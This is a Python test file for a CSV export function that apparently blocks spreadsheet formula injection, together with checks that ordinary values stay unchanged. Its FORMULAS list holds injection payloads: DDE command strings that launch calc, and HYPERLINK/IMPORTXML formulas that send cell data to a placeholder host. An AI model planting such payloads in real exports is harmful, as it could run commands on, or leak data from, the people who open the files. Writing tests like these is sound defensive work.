"""What is written for a spreadsheet holds no formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import nblabel as nl

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://canary.invalid?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://canary.invalid?",A1),"//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    '"=1+1"',
    "text;=1+1",
    "text\t=1+1",
    "text\n=1+1",
    "text\r\n@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "-",
    "--",
]
FINE = [
    "",
    "a",
    "a=b",
    "a-b",
    "mail@example.org",
    "1-2",
    "héé",
    "5%",
    "a, -b",
    "-5",
    "+3.2",
    "-1,5",
]


def cells(text: str, delimiter: str = ",") -> list[str]:
    """What a spreadsheet would make of it, where this separates the cells."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def is_formula(cell: str) -> bool:
    bare = cell.strip().strip('"\x00').strip()
    try:
        float(bare.replace(",", "."))
    except ValueError:
        return bare[:1] in "=+-@＝＋－＠" and bare != ""
    return False


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula(formula: str, delimiter: str) -> None:
    frame = pd.DataFrame(
        {formula: [formula, "x"], "other": ["x", formula]},
        index=pd.Index([formula, "y"], name=formula),
    )
    text = nl.safe_csv(frame) or ""
    assert not any(is_formula(cell) for cell in cells(text, delimiter)), text
    plain = frame.to_csv()
    assert any(is_formula(cell) for other in ",;\t" for cell in cells(plain, other)), "no control"


@pytest.mark.parametrize("text", FINE)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    frame = pd.DataFrame({"a": [text]})
    assert nl.safe_csv(frame) == frame.to_csv()


def test_values_and_types_stay() -> None:
    frame = pd.DataFrame(
        {
            "n": [-1, 2], "f": [-0.5, np.nan], "b": [True, False],
            "i": pd.array([-1, None], "Int64"),
            "t": pd.to_datetime(["2026-01-02", None]), "c": pd.Categorical(["a", "=b"]),
            "o": [None, [-1]], "d": [pd.NA, "-"],
        },
        index=pd.MultiIndex.from_tuples([(-1, "=a"), (2, "b")], names=["@k", "l"]),
    )  # fmt: skip
    text = nl.safe_csv(frame) or ""
    expected = frame.to_csv().replace("=a", "'=a").replace("=b", "'=b").replace("@k", "'@k")
    assert text == expected.replace(",-\n", ",'-\n")
    assert list(frame["c"]) == ["a", "=b"], "the table itself is not changed"
    twice = pd.DataFrame([["=1", 2]], columns=["a", "a"])
    assert nl.safe_csv(twice, index=False) == "a,a\n'=1,2\n"
    assert nl.safe_csv(pd.DataFrame(index=["=1"])) == pd.DataFrame(index=["'=1"]).to_csv()


def test_the_tables_of_a_session_can_be_written(tmp_path: Path) -> None:
    data: Any = pd.DataFrame({"body": FORMULAS, "=x": 1}, index=[f"={k}" for k in range(24)])
    session = nl.Session(data, ["=ham", "@spam"], text="body", store=None, inline=True)
    for k in range(24):
        session.annotate(f"={k}", FORMULAS[k])
        session.record(f"={k}", "=ham", annotator="-ana")
    for k, frame in enumerate((session.frame(), session.labels, session.history)):
        path = tmp_path / f"{k}.csv"
        assert nl.safe_csv(frame, path) is None
        with path.open(newline="", encoding="utf-8") as file:
            assert not any(is_formula(cell) for cell in cells(file.read()))
